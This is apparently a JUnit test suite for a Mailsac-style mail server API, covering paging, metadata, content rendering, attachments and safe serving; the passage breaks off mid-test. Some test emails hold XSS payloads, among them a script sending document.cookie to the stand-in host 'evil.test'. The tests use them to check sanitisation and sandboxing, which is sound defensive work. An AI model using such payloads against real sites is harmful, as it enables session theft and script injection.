package io.mailbin.api;

import static org.assertj.core.api.Assertions.assertThat;

import io.mailbin.testing.Api;
import io.mailbin.testing.SmtpDialog;
import io.mailbin.testing.TestMailbin;
import java.io.ByteArrayOutputStream;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.HashSet;
import java.util.HexFormat;
import java.util.List;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.JsonNode;

/**
 * Every endpoint of the Mailsac Messages and Attachments APIs, over HTTP against a real server that received
 * the mail over SMTP. Messages are sent with {@link SmtpDialog} so the test knows every byte the server got.
 * Each test uses its own domain, so tests share the server without seeing each other's mail.
 */
class MessagesApiTest {
    static TestMailbin server;
    static Api api;

    @BeforeAll
    static void start() {
        server = TestMailbin.start();
        api = new Api(server);
    }

    @AfterAll
    static void stop() {
        server.closeAndDelete();
    }

    // ---- listing, paging, counting ----

    @Test
    void listIsNewestFirstAndLimitCutsFromTheNewest() {
        for (String subject : List.of("first", "second", "third")) {
            deliver("order@list.test", "Subject: " + subject + "\r\n\r\nbody\r\n");
        }
        assertThat(subjects(api.messages("order@list.test"))).containsExactly("third", "second", "first");
        assertThat(subjects(api.messages("order@list.test", "limit=2"))).containsExactly("third", "second");
        assertThat(server.json("/api/addresses/order@list.test/message-count").toString())
                .isEqualTo("{\"count\":3,\"inbox\":\"order@list.test\"}");
        assertThat(api.messages("nobody@list.test").isEmpty()).isTrue();
        assertThat(api.count("nobody@list.test")).isZero();
    }

    @Test
    void pagingWithUntilNeitherLosesNorRepeatsMessages() throws Exception {
        String inbox = "burst@paging.test";
        int connections = 5;
        int perConnection = 50;
        Set<String> sent = new HashSet<>();
        try (ExecutorService pool = Executors.newFixedThreadPool(connections)) {
            List<Future<?>> senders = new ArrayList<>();
            for (int c = 0; c < connections; c++) {
                int connection = c;
                senders.add(pool.submit(() -> {
                    try (SmtpDialog d = SmtpDialog.open(server.smtpPort())) {
                        d.command("EHLO burst.test", 250);
                        for (int i = 0; i < perConnection; i++) {
                            SmtpDialog.Reply r = d.sendMessage("burst@sender.test", List.of(inbox),
                                    "Subject: burst " + connection + "-" + i + "\r\n\r\nbody\r\n");
                            assertThat(r.code()).as(r.text()).isEqualTo(250);
                        }
                    }
                }));
                for (int i = 0; i < perConnection; i++) {
                    sent.add("burst " + c + "-" + i);
                }
            }
            for (Future<?> f : senders) {
                f.get();
            }
        }
        assertThat(api.count(inbox)).isEqualTo(250);

        List<JsonNode> seen = new ArrayList<>();
        List<Integer> pageSizes = new ArrayList<>();
        String until = null;
        while (true) {
            JsonNode page = api.messages(inbox, "limit=37" + (until == null ? "" : "&until=" + until));
            pageSizes.add(page.size());
            if (page.isEmpty()) {
                break;
            }
            page.forEach(seen::add);
            until = page.get(page.size() - 1).get("received").asString();
        }
        assertThat(pageSizes).containsExactly(37, 37, 37, 37, 37, 37, 28, 0);
        assertThat(subjects(seen)).doesNotHaveDuplicates().containsExactlyInAnyOrderElementsOf(sent);
        List<Instant> received = seen.stream().map(m -> Instant.parse(m.get("received").asString())).toList();
        for (int i = 1; i < received.size(); i++) {
            assertThat(received.get(i)).as("received of item %d", i).isBefore(received.get(i - 1));
        }

        // the default limit is the spec's 20; a limit above 1000 is capped, not refused
        assertThat(ids(api.messages(inbox))).containsExactlyElementsOf(ids(seen.subList(0, 20)));
        assertThat(api.messages(inbox, "limit=5000").size()).isEqualTo(250);
        // since is exclusive too, and combines with until into a window
        String since = seen.get(100).get("received").asString();
        assertThat(ids(api.messages(inbox, "limit=1000&since=" + since)))
                .containsExactlyElementsOf(ids(seen.subList(0, 100)));
        String windowEnd = seen.get(50).get("received").asString();
        assertThat(ids(api.messages(inbox, "limit=1000&since=" + since + "&until=" + windowEnd)))
                .containsExactlyElementsOf(ids(seen.subList(51, 100)));
        // epoch milliseconds name the same instant as the ISO form
        long untilMillis = Instant.parse(windowEnd).toEpochMilli();
        assertThat(ids(api.messages(inbox, "limit=3&until=" + untilMillis)))
                .containsExactlyElementsOf(ids(seen.subList(51, 54)));
    }

    // ---- metadata ----

    @Test
    void metadataHasEverySpecFieldWithTheValueTheMailCarried() throws Exception {
        byte[] report = "%PDF-1.4\n% not really a PDF\n".getBytes(StandardCharsets.US_ASCII);
        String subject = "Grüße aus Köln ✓";
        String data = "From: \"Example, Ann\" <ann@sender.test>\r\n"
                + "To: \"Bob Tagged\" <bob+news@meta.test>, plain@meta.test\r\n"
                + "Cc: Carol <carol@meta.test>\r\n"
                + "Bcc: =?UTF-8?Q?D=C3=A9sir=C3=A9e?= <desiree@meta.test>\r\n"
                + "Subject: =?UTF-8?B?" + Base64.getEncoder().encodeToString(subject.getBytes(StandardCharsets.UTF_8)) + "?=\r\n"
                + "Message-ID: <meta-1@sender.test>\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"mixed\"\r\n"
                + "\r\n"
                + "--mixed\r\n"
                + "Content-Type: multipart/alternative; boundary=\"alt\"\r\n"
                + "\r\n"
                + "--alt\r\n"
                + "Content-Type: text/plain; charset=utf-8\r\n"
                + "\r\n"
                + "Confirm at https://example.com/confirm?token=abc. Docs: https://example.org/docs\r\n"
                + "--alt\r\n"
                + "Content-Type: text/html; charset=utf-8\r\n"
                + "\r\n"
                + "<p><a href=\"https://example.net/html-only\">Confirm</a></p>\r\n"
                + "--alt--\r\n"
                + "--mixed\r\n"
                + "Content-Type: application/pdf; name=\"report.pdf\"\r\n"
                + "Content-Disposition: attachment; filename=\"report.pdf\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "\r\n"
                + Base64.getMimeEncoder().encodeToString(report) + "\r\n"
                + "--mixed--\r\n";
        Instant before = Instant.now().minusMillis(1);
        String queueId = deliver("bob+news@meta.test", data);
        Instant after = Instant.now().plusMillis(1);

        JsonNode m = api.onlyMessage("bob@meta.test");
        assertThat(names(m)).containsExactlyInAnyOrder("_id", "from", "to", "cc", "bcc", "subject", "savedBy",
                "originalInbox", "inbox", "domain", "received", "size", "attachments", "ip", "via", "folder",
                "labels", "read", "rtls", "links", "spam");
        String id = m.get("_id").asString();
        assertThat(id).isEqualTo(queueId + "-0");
        assertThat(m.get("from").toString()).isEqualTo("[{\"address\":\"ann@sender.test\",\"name\":\"Example, Ann\"}]");
        assertThat(m.get("to").toString()).isEqualTo("[{\"address\":\"bob+news@meta.test\",\"name\":\"Bob Tagged\"},"
                + "{\"address\":\"plain@meta.test\",\"name\":\"\"}]");
        assertThat(m.get("cc").toString()).isEqualTo("[{\"address\":\"carol@meta.test\",\"name\":\"Carol\"}]");
        assertThat(m.get("bcc").toString()).isEqualTo("[{\"address\":\"desiree@meta.test\",\"name\":\"Désirée\"}]");
        assertThat(m.get("subject").asString()).isEqualTo(subject);
        assertThat(m.get("savedBy").isNull()).isTrue();
        assertThat(m.get("originalInbox").asString()).isEqualTo("bob+news@meta.test");
        assertThat(m.get("inbox").asString()).isEqualTo("bob@meta.test");
        assertThat(m.get("domain").asString()).isEqualTo("meta.test");
        String received = m.get("received").asString();
        assertThat(received).matches("\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z");
        // received is strictly increasing per domain, so right after another test's burst it may run a little ahead
        assertThat(Instant.parse(received)).isBetween(before, after.plusSeconds(1));
        assertThat(m.get("size").asInt()).isEqualTo(api.raw("bob@meta.test", id).length);
        assertThat(m.get("attachments").toString()).isEqualTo("[\"" + md5(report) + "\"]");
        assertThat(m.get("ip").asString()).isEqualTo("127.0.0.1");
        assertThat(m.get("via").asString()).isEqualTo("127.0.0.1");
        assertThat(m.get("labels").toString()).isEqualTo("[]");
        assertThat(m.get("read").asBoolean()).isFalse();
        assertThat(m.get("rtls").isBoolean()).isTrue();
        assertThat(m.get("rtls").asBoolean()).isFalse();
        assertThat(m.get("links").toString()).isEqualTo(
                "[\"https://example.net/html-only\",\"https://example.com/confirm?token=abc\",\"https://example.org/docs\"]");
        JsonNode spam = m.get("spam");
        assertThat(spam.asDouble()).isStrictlyBetween(0.0, 1.0);
        // the folder follows the score: this test mail is terse and link-heavy, the filter may call it spam
        assertThat(m.get("folder").asString()).isEqualTo(spam.asDouble() >= 0.512488 ? "spam" : "inbox");

        // the same object by id, under the inbox and under the address it was sent to
        assertThat(api.metadata("bob@meta.test", id)).isEqualTo(m);
        assertThat(api.metadata("bob+news@meta.test", id)).isEqualTo(m);
        assertThat(api.onlyMessage("bob+news@meta.test")).isEqualTo(m);
        assertThat(api.onlyMessage("BOB@Meta.Test")).as("addresses are case-insensitive").isEqualTo(m);
    }

    // ---- deleting ----

    @Test
    void deletingOneMessageAnswersWithItsIdAndThenItIsGone() {
        deliver("del@delete.test", "Subject: keep\r\n\r\nkeep me\r\n");
        deliver("del+x@delete.test", "Subject: drop\r\n\r\ndrop me\r\n");
        JsonNode list = api.messages("del@delete.test");
        assertThat(subjects(list)).containsExactly("drop", "keep");
        String id = list.get(0).get("_id").asString();

        HttpResponse<String> r = server.delete("/api/addresses/del@delete.test/messages/" + id);
        assertThat(r.statusCode()).isEqualTo(200);
        assertThat(r.body()).isEqualTo("{\"_id\":\"" + id + "\",\"inbox\":\"del@delete.test\",\"message\":\"Message was deleted.\"}");

        assertThat(server.get("/api/addresses/del@delete.test/messages/" + id).statusCode()).isEqualTo(404);
        assertThat(server.get("/api/raw/del@delete.test/" + id).statusCode()).isEqualTo(404);
        assertThat(server.delete("/api/addresses/del@delete.test/messages/" + id).statusCode()).isEqualTo(404);
        assertThat(subjects(api.messages("del@delete.test"))).containsExactly("keep");
        assertThat(api.count("del@delete.test")).isEqualTo(1);
    }

    @Test
    void deletingAllMessagesOfAnInboxLeavesOtherInboxesAlone() {
        for (int i = 0; i < 3; i++) {
            deliver("all@delete-all.test", "Subject: " + i + "\r\n\r\nx\r\n");
        }
        deliver("other@delete-all.test", "Subject: other\r\n\r\nx\r\n");
        assertThat(api.count("all@delete-all.test")).isEqualTo(3);

        HttpResponse<String> r = server.delete("/api/addresses/all@delete-all.test/messages");
        assertThat(r.statusCode()).isEqualTo(204);
        assertThat(r.body()).isEmpty();
        assertThat(api.count("all@delete-all.test")).isZero();
        assertThat(api.messages("all@delete-all.test").isEmpty()).isTrue();
        assertThat(api.count("other@delete-all.test")).isEqualTo(1);
    }

    // ---- content: raw, text, body, dirty ----

    @Test
    void rawIsTheBytesReceivedAfterOurReceivedHeader() {
        ByteArrayOutputStream data = new ByteArrayOutputStream();
        data.writeBytes(("Received: from upstream.test by relay.test; Tue, 1 Dec 2026 10:00:00 +0000\r\n"
                + "From: raw@sender.test\r\n"
                + "To: raw@raw.test\r\n"
                + "Subject: raw bytes  \r\n"
                + "X-Folded: one\r\n\ttwo\r\n"
                + "Content-Type: text/plain; charset=iso-8859-1\r\n"
                + "Content-Transfer-Encoding: 8bit\r\n"
                + "\r\n").getBytes(StandardCharsets.US_ASCII));
        data.writeBytes(new byte[] {'c', 'a', 'f', (byte) 0xE9, ' ', (byte) 0xFF, (byte) 0x80, '\r', '\n'});
        data.writeBytes(("trailing spaces   \r\n\tleading tab\r\nbare LF\nline\r\n" + "x".repeat(998) + "\r\n\r\n")
                .getBytes(StandardCharsets.US_ASCII));
        byte[] sent = data.toByteArray();
        String queueId = deliver("raw@raw.test", sent);
        String id = api.onlyMessageId("raw@raw.test");

        byte[] raw = api.raw("raw@raw.test", id);
        int headerEnd = endOfFirstHeaderField(raw);
        String ours = new String(raw, 0, headerEnd, StandardCharsets.US_ASCII);
        assertThat(ours).matches("Received: from client\\.test \\(\\[127\\.0\\.0\\.1]\\)\r\n"
                + "\tby mailbin\\.test \\(Mailbin\\) with ESMTP id " + queueId + "\r\n"
                + "\tfor <raw@raw\\.test>; \\w{3}, \\d{1,2} \\w{3} \\d{4} \\d\\d:\\d\\d:\\d\\d \\+0000\r\n");
        assertThat(Arrays.copyOfRange(raw, headerEnd, raw.length)).isEqualTo(sent);
        assertThat(api.metadata("raw@raw.test", id).get("size").asInt()).isEqualTo(raw.length);
        // the 8-bit body is decoded with its declared charset for /text
        int bodyStart = new String(sent, StandardCharsets.ISO_8859_1).indexOf("\r\n\r\n") + 4;
        assertThat(api.content("text", "raw@raw.test", id))
                .isEqualTo(new String(sent, bodyStart, sent.length - bodyStart, StandardCharsets.ISO_8859_1));
    }

    @Test
    void textIsThePlainPartOrTextRenderedFromHtml() {
        deliver("text@text.test", "Subject: alternative\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/alternative; boundary=\"b\"\r\n"
                + "\r\n"
                + "--b\r\n"
                + "Content-Type: text/plain; charset=utf-8\r\n"
                + "Content-Transfer-Encoding: quoted-printable\r\n"
                + "\r\n"
                + "Hello J=C3=B6rg,\r\n"
                + "second line\r\n"
                + "--b\r\n"
                + "Content-Type: text/html; charset=utf-8\r\n"
                + "\r\n"
                + "<p>Hello <b>HTML</b></p>\r\n"
                + "--b--\r\n");
        assertThat(api.content("text", "text@text.test", api.onlyMessageId("text@text.test")))
                .isEqualTo("Hello Jörg,\r\nsecond line");

        // an HTML-only message: the same text whether its markup is compact or indented
        String compact = "<html><head><title>ignored</title><style>p{color:red}</style></head><body>"
                + "<h1>Welcome, Ann!</h1><p>Thanks for signing up. Please <a href=\"https://example.com/c\">confirm</a>"
                + " within 24&nbsp;hours.</p><table><tr><td>Plan</td><td><strong>Free</strong></td></tr>"
                + "<tr><td>Seats</td><td>3</td></tr></table><p>Line one<br>Line two</p><ul><li>one</li><li>two</li></ul>"
                + "<pre>  indented\n    code</pre><script>var hidden = 1;</script></body></html>";
        String indented = """
                <html>
                  <head>
                    <title>ignored</title>
                    <style>p { color: red }</style>
                  </head>
                  <body>
                    <h1>Welcome, Ann!</h1>
                    <p>
                      Thanks for signing up. Please
                      <a href="https://example.com/c">confirm</a>
                      within 24&nbsp;hours.
                    </p>
                    <table>
                      <tr>
                        <td>Plan</td>
                        <td><strong>Free</strong></td>
                      </tr>
                      <tr>
                        <td>Seats</td>
                        <td>3</td>
                      </tr>
                    </table>
                    <p>Line one<br>
                       Line two</p>
                    <ul>
                      <li>one</li>
                      <li>two</li>
                    </ul>
                    <pre>  indented
                    code</pre>
                    <script>var hidden = 1;</script>
                  </body>
                </html>
                """.replace("\n", "\r\n");
        String expected = "Welcome, Ann!\n\nThanks for signing up. Please confirm within 24 hours.\n\n"
                + "Plan\tFree\nSeats\t3\n\nLine one\nLine two\n\none\ntwo\n  indented\n    code";
        deliver("compact@text.test", "Subject: html only\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + compact + "\r\n");
        assertThat(api.content("text", "compact@text.test", api.onlyMessageId("compact@text.test"))).isEqualTo(expected);
        deliver("indented@text.test", "Subject: html only\r\nContent-Type: text/html; charset=utf-8\r\n\r\n" + indented);
        assertThat(api.content("text", "indented@text.test", api.onlyMessageId("indented@text.test")))
                .isEqualTo(expected.replace("\n    code", "\r\n    code"));
    }

    @Test
    void bodyIsSanitisedHtmlThatKeepsTheText() {
        deliver("body@body.test", "Subject: hostile\r\n"
                + "Content-Type: text/html; charset=utf-8\r\n"
                + "\r\n"
                + "<html><head><script>alert('head')</script></head>\r\n"
                + "<body onload=\"steal()\"><h1 onclick=\"x()\">Welcome</h1>\r\n"
                + "<p>Hello <b>friend</b>, <a href=\"https://evil.test/phish\" onmouseover=\"go()\">click here</a>.</p>\r\n"
                + "<img src=\"https://tracker.test/pixel.gif\" onerror=\"alert(1)\"><IMG SRC=\"javascript:alert(2)\">\r\n"
                + "<SCRIPT type=\"text/javascript\">document.location='https://evil.test/?c='+document.cookie</SCRIPT>\r\n"
                + "<svg onload=\"alert(3)\"><circle r=\"1\"/></svg><iframe src=\"https://evil.test/frame\"></iframe>\r\n"
                + "<div style=\"background:url(javascript:alert(4))\" onmouseenter=\"y()\">styled</div>\r\n"
                + "<table><tr><td colspan=\"2\" onclick=\"bad()\">cell text</td></tr></table>\r\n"
                + "</body></html>\r\n");
        String body = api.content("body", "body@body.test", api.onlyMessageId("body@body.test"));
        assertThat(body.toLowerCase()).doesNotContain("<script", "<img", "<a ", "<a>", "<svg", "<iframe", "javascript:",
                "alert(", "document.cookie", "style=");
        assertThat(body).doesNotContainPattern("(?i)\\son[a-z]+\\s*=");
        assertThat(body).contains("<h1>Welcome</h1>", "<p>Hello <b>friend</b>, click here.</p>", "styled",
                "<td colspan=\"2\">cell text</td>");

        deliver("plain@body.test", "Subject: plain\r\n\r\nfish & <chips>\r\nsecond line\r\n");
        assertThat(api.content("body", "plain@body.test", api.onlyMessageId("plain@body.test")))
                .isEqualTo("<html><body><p>fish &amp; &lt;chips&gt;<br>\nsecond line<br>\n</p></body></html>");
    }

    @Test
    void dirtyIsTheOriginalHtmlWithCidImagesInlined() {
        byte[] png = pngBytes();
        String html = "<html><body><p onclick=\"kept()\">Logo:</p><img src=\"cid:logo@dirty.test\" alt=\"logo\">"
                + "<img src='cid:missing@dirty.test'><script>kept();</script><img src=cid:logo@dirty.test></body></html>";
        deliver("dirty@dirty.test", "Subject: related\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/related; boundary=\"rel\"\r\n"
                + "\r\n"
                + "--rel\r\n"
                + "Content-Type: text/html; charset=utf-8\r\n"
                + "\r\n"
                + html + "\r\n"
                + "--rel\r\n"
                + "Content-Type: image/png\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "Content-ID: <logo@dirty.test>\r\n"
                + "Content-Disposition: inline; filename=\"logo.png\"\r\n"
                + "\r\n"
                + Base64.getMimeEncoder().encodeToString(png) + "\r\n"
                + "--rel--\r\n");
        String dirty = api.content("dirty", "dirty@dirty.test", api.onlyMessageId("dirty@dirty.test"));
        assertThat(dirty).isEqualTo(html.replace("cid:logo@dirty.test",
                "data:image/png;base64," + Base64.getEncoder().encodeToString(png)));
    }

    @Test
    void dirtyStaysBoundedWhenAMessageNamesOneImageThousandsOfTimes() {
        byte[] image = new byte[30_000];
        new java.util.Random(7).nextBytes(image);
        String html = "<p>" + "<img src=\"cid:same@bomb.test\">".repeat(3000) + "</p>";
        deliver("bomb@dirty.test", "Subject: cid bomb\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/related; boundary=\"rel\"\r\n"
                + "\r\n"
                + "--rel\r\n"
                + "Content-Type: text/html\r\n"
                + "\r\n"
                + html + "\r\n"
                + "--rel\r\n"
                + "Content-Type: image/png\r\n"
                + "Content-ID: <same@bomb.test>\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "\r\n"
                + Base64.getMimeEncoder().encodeToString(image) + "\r\n"
                + "--rel--\r\n");
        String id = api.onlyMessageId("bomb@dirty.test");
        int rawSize = api.metadata("bomb@dirty.test", id).get("size").asInt();

        String dirty = api.content("dirty", "bomb@dirty.test", id);
        // inlining every reference would make 3000 copies of the image, about 120 MB
        assertThat(dirty.length()).isLessThanOrEqualTo(4 * rawSize + html.length());
        String dataUri = "data:image/png;base64," + Base64.getEncoder().encodeToString(image);
        assertThat(dirty).startsWith("<p><img src=\"" + dataUri + "\">").endsWith("<img src=\"cid:same@bomb.test\"></p>");
    }

    // ---- headers ----

    @Test
    void headersComeAsGroupedJsonOrderedJsonOrPlainText() {
        String data = "From: Sender <s@headers.test>\r\n"
                + "To: headers@headers.test\r\n"
                + "Subject: =?UTF-8?Q?Caf=C3=A9?= menu\r\n"
                + "X-Repeat: one\r\n"
                + "x-repeat: two\r\n"
                + "X-Folded: first part\r\n\tsecond part\r\n"
                + "Message-ID: <hdr@headers.test>\r\n"
                + "\r\n"
                + "body\r\n";
        deliver("headers@headers.test", data);
        String id = api.onlyMessageId("headers@headers.test");
        String base = "/api/addresses/headers@headers.test/messages/" + id + "/headers";

        JsonNode grouped = server.json(base);
        assertThat(names(grouped)).containsExactly("received", "from", "to", "subject", "x-repeat", "x-folded", "message-id");
        assertThat(grouped.get("received").size()).isEqualTo(1);
        assertThat(grouped.get("received").get(0).asString()).startsWith("from client.test ([127.0.0.1])");
        assertThat(grouped.get("from").toString()).isEqualTo("[\"Sender <s@headers.test>\"]");
        assertThat(grouped.get("subject").toString()).isEqualTo("[\"Café menu\"]");
        assertThat(grouped.get("x-repeat").toString()).isEqualTo("[\"one\",\"two\"]");
        assertThat(grouped.get("x-folded").toString()).isEqualTo("[\"first part\\tsecond part\"]");
        assertThat(server.json(base + "?messageHeadersFormat=json")).isEqualTo(grouped);

        JsonNode ordered = server.json(base + "?messageHeadersFormat=json-ordered");
        assertThat(ordered.size()).isEqualTo(8);
        assertThat(ordered.valueStream().map(f -> f.get("name").asString()).toList())
                .containsExactly("received", "from", "to", "subject", "x-repeat", "x-repeat", "x-folded", "message-id");
        assertThat(ordered.get(3).toString()).isEqualTo("{\"name\":\"subject\",\"value\":\"Café menu\"}");
        assertThat(ordered.get(5).toString()).isEqualTo("{\"name\":\"x-repeat\",\"value\":\"two\"}");

        HttpResponse<String> plain = server.get(base + "?messageHeadersFormat=plain");
        assertThat(plain.statusCode()).isEqualTo(200);
        assertThat(mediaType(plain)).isEqualTo("text/plain;charset=utf-8");
        String raw = new String(api.raw("headers@headers.test", id), StandardCharsets.UTF_8);
        assertThat(plain.body()).isEqualTo(raw.substring(0, raw.indexOf("\r\n\r\n") + 2));

        HttpResponse<String> bad = server.get(base + "?messageHeadersFormat=xml");
        assertThat(bad.statusCode()).isEqualTo(400);
        assertThat(bad.body()).isEqualTo("{\"message\":\"messageHeadersFormat must be json, json-ordered or plain, got 'xml'\","
                + "\"error\":\"Bad Request\"}");
    }

    // ---- attachments ----

    @Test
    void attachmentsAreListedAndDownloadedByteExactByChecksumContentIdAndFileName() throws Exception {
        byte[] allBytes = new byte[512];
        for (int i = 0; i < 256; i++) {
            allBytes[i] = (byte) i;
            allBytes[511 - i] = (byte) i;
        }
        byte[] png = pngBytes();
        byte[] notes = "café ✓".getBytes(StandardCharsets.UTF_8);
        deliver("files@attach.test", "Subject: files\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"m\"\r\n"
                + "\r\n"
                + "--m\r\n"
                + "Content-Type: text/plain\r\n"
                + "\r\n"
                + "see attached\r\n"
                + "--m\r\n"
                + "Content-Type: application/octet-stream\r\n"
                + "Content-Disposition: attachment; filename=\"all-bytes.bin\"\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "\r\n"
                + Base64.getMimeEncoder().encodeToString(allBytes) + "\r\n"
                + "--m\r\n"
                + "Content-Type: image/png; name=\"chart.png\"\r\n"
                + "Content-Disposition: inline; filename=\"chart.png\"\r\n"
                + "Content-ID: <chart@attach.test>\r\n"
                + "Content-Transfer-Encoding: base64\r\n"
                + "\r\n"
                + Base64.getMimeEncoder().encodeToString(png) + "\r\n"
                + "--m\r\n"
                + "Content-Type: text/plain; charset=utf-8\r\n"
                + "Content-Disposition: attachment; filename=\"notes v2.txt\"\r\n"
                + "Content-Transfer-Encoding: quoted-printable\r\n"
                + "\r\n"
                + "caf=C3=A9 =E2=9C=93\r\n"
                + "--m--\r\n");
        String id = api.onlyMessageId("files@attach.test");

        assertThat(api.metadata("files@attach.test", id).get("attachments").toString())
                .isEqualTo("[\"" + md5(allBytes) + "\",\"" + md5(png) + "\",\"" + md5(notes) + "\"]");
        JsonNode list = api.attachments("files@attach.test", id);
        assertThat(list.size()).isEqualTo(3);
        assertAttachment(list.get(0), md5(allBytes), null, "all-bytes.bin", "application/octet-stream", 512, "base64");
        assertAttachment(list.get(1), md5(png), "chart@attach.test", "chart.png", "image/png", png.length, "base64");
        assertAttachment(list.get(2), md5(notes), null, "notes v2.txt", "text/plain", notes.length, "quoted-printable");

        HttpResponse<byte[]> byChecksum = api.attachment("files@attach.test", id, md5(allBytes));
        assertThat(byChecksum.statusCode()).isEqualTo(200);
        assertThat(byChecksum.body()).isEqualTo(allBytes);
        assertThat(mediaType(byChecksum)).isEqualTo("application/octet-stream");
        assertThat(byChecksum.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"all-bytes.bin\"; filename*=UTF-8''all-bytes.bin");
        assertThat(api.attachment("files@attach.test", id, md5(allBytes).toUpperCase()).body()).isEqualTo(allBytes);
        assertThat(api.attachment("files@attach.test", id, "all-bytes.bin").body()).isEqualTo(allBytes);
        assertThat(api.attachment("files@attach.test", id, "chart@attach.test").body()).isEqualTo(png);
        assertThat(api.attachment("files@attach.test", id, "chart.png").body()).isEqualTo(png);
        HttpResponse<byte[]> byName = api.attachment("files@attach.test", id, "notes v2.txt");
        assertThat(byName.body()).isEqualTo(notes);
        assertThat(byName.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"notes v2.txt\"; filename*=UTF-8''notes%20v2.txt");

        HttpResponse<byte[]> missing = api.attachment("files@attach.test", id, "nope.txt");
        assertThat(missing.statusCode()).isEqualTo(404);
        assertThat(new String(missing.body(), StandardCharsets.UTF_8)).isEqualTo(
                "{\"message\":\"Attachment not found: no attachment 'nope.txt' in message " + id + "\",\"error\":\"Not Found\"}");
    }

    private static void assertAttachment(JsonNode a, String checksum, String contentId, String fileName,
                                         String contentType, int length, String transferEncoding) {
        assertThat(a.get("checksum").asString()).isEqualTo(checksum);
        if (contentId == null) {
            assertThat(a.get("contentId").isNull()).as("contentId of %s", fileName).isTrue();
        } else {
            assertThat(a.get("contentId").asString()).isEqualTo(contentId);
        }
        assertThat(a.get("fileName").asString()).isEqualTo(fileName);
        assertThat(a.get("contentType").asString()).isEqualTo(contentType);
        assertThat(a.get("length").asInt()).isEqualTo(length);
        assertThat(a.get("transferEncoding").asString()).isEqualTo(transferEncoding);
    }

    // ---- serving hostile content safely ----

    @Test
    void mailContentIsServedSandboxedAndDownloadsAreAttachments() {
        deliver("secure@secure.test", "Subject: secure\r\n"
                + "MIME-Version: 1.0\r\n"
                + "Content-Type: multipart/mixed; boundary=\"s\"\r\n"
                + "\r\n"
                + "--s\r\n"
                + "Content-Type: text/html\r\n"
                + "\r\n"
                + "<script>fetch('/api/addresses')</script><p>hi</p>\r\n"
                + "--s\r\n"
                + "Content-Type: text/html; name=\"page.html\"\r\n"
                + "Content-Disposition: attachment; filename=\"page.html\"\r\n"
                + "\r\n"
                + "<script>alert(document.domain)</script>\r\n"
                + "--s--\r\n");
        String id = api.onlyMessageId("secure@secure.test");
        String checksum = md5("<script>alert(document.domain)</script>".getBytes(StandardCharsets.US_ASCII));
        List<String> paths = List.of("/api/raw/secure@secure.test/" + id, "/api/dirty/secure@secure.test/" + id,
                "/api/body/secure@secure.test/" + id, "/api/text/secure@secure.test/" + id,
                "/api/addresses/secure@secure.test/messages/" + id + "/attachments/" + checksum,
                "/api/addresses/secure@secure.test/messages/" + id + "/attachments/page.html");
        for (String path : paths) {
            HttpResponse<String> r = server.get(path);
            assertThat(r.statusCode()).as(path).isEqualTo(200);
            assertThat(r.headers().firstValue("Content-Security-Policy")).as(path).hasValue("sandbox");
            assertThat(r.headers().firstValue("X-Content-Type-Options")).as(path).hasValue("nosniff");
            boolean download = path.contains("/attachments/");
            assertThat(r.headers().firstValue("Content-Disposition").map(v -> v.startsWith("attachment;")))
                    .as(path).isEqualTo(download ? java.util.Optional.of(true) : java.util.Optional.empty());
        }
        assertThat(mediaType(server.get(paths.get(0)))).isEqualTo("text/plain;charset=utf-8");
        assertThat(mediaType(server.get(paths.get(1)))).isEqualTo("text/html;charset=utf-8");
        assertThat(mediaType(server.get(paths.get(4)))).isEqualTo("application/octet-stream");

        HttpResponse<String> download = server.get("/api/raw/secure@secure.test/" + id + "?download=1");
        assertThat(download.headers().firstValue("Content-Disposition"))
                .hasValue("attachment; filename=\"" + id + ".eml\"; filename*=UTF-8''" + id + ".eml");
        assertThat(download.headers().firstValue("Content-Security-Policy")).hasValue("sandbox");
    }

    @Test
    void aBrowserOnAnotherOriginMayCallTheApiWithAKeyHeader() {
        HttpResponse<String> preflight = server.send(HttpRequest.newBuilder(
                        URI.create(server.url("/api/addresses/cors@cors.test/messages")))
                .method("OPTIONS", HttpRequest.BodyPublishers.noBody())
                .header("Origin", "https://app.other.test")
                .header("Access-Control-Request-Method", "GET")
                .header("Access-Control-Request-Headers", "Mailsac-Key")
                .build());
        assertThat(preflight.statusCode()).isBetween(200, 204);
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Origin"))
                .hasValueSatisfying(v -> assertThat(v).isIn("*", "https://app.other.test"));
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Headers"))
                .hasValueSatisfying(v -> assertThat(v.toLowerCase()).contains("mailsac-key"));
        assertThat(preflight.headers().firstValue("Access-Control-Allow-Methods"))
                .hasValueSatisfying(v -> assertThat(v).contains("GET"));

        HttpResponse<String> get = server.send(HttpRequest.newBuilder(
                        URI.create(server.url("/api/addresses/cors@cors.test/messages")))
                .header("Origin", "https://app.other.test")
                .header("Mailsac-Key", server.createAccount("cors-browser"))
                .build());
        assertThat(get.statusCode()).isEqualTo(200);
        assertThat(get.headers().firstValue("Access-Control-Allow-Origin"))
                .hasValueSatisfying(v -> assertThat(v).isIn("*", "https://app.other.test"));
    }

    // ---- errors ----

    @Test
    void unknownMessagesAndMessagesOfOtherInboxesAre404() {
        deliver("owner@errors.test", "Subject: mine\r\n\r\nsecret\r\n");
        String id = api.onlyMessageId("owner@errors.test");

        HttpResponse<String> unknown = server.get("/api/addresses/owner@errors.test/messages/nosuchid-0");
        assertThat(unknown.statusCode()).isEqualTo(404);
